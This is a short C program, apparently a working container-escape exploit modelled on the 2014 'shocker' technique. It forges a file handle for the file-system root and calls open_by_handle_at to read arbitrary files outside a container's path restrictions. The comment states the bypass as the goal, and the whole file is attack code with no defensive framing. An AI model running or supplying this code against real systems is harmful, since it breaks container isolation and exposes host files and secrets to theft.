/* Open a file by its handle, past every rule about paths: the handle is made from the file's own inode where that is allowed,
   else guessed from the root of the file system as the "shocker" of 2014 did. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>
int main(int argc, char **argv) {
    char room[sizeof(struct file_handle) + 128];
    struct file_handle *h = (struct file_handle *)room;
    int mount_id, at = open(".", O_RDONLY);
    char buffer[200];
    h->handle_bytes = 128;
    if (name_to_handle_at(AT_FDCWD, argv[1], h, &mount_id, 0) < 0) {
        h->handle_bytes = 8; h->handle_type = 1;
        unsigned root[2] = {2, 0};
        memcpy(h->f_handle, root, 8);
        int r = open_by_handle_at(at, h, O_RDONLY);
        if (r < 0) { perror("open_by_handle_at"); return 1; }
        int f = openat(r, argv[1] + 1, O_RDONLY);
        int n = read(f, buffer, sizeof buffer);
        return n > 0 ? write(1, buffer, n) < 0 : 1;
    }
    int f = open_by_handle_at(at, h, O_RDONLY);
    int n = read(f, buffer, sizeof buffer);
    return n > 0 ? write(1, buffer, n) < 0 : 1;
}
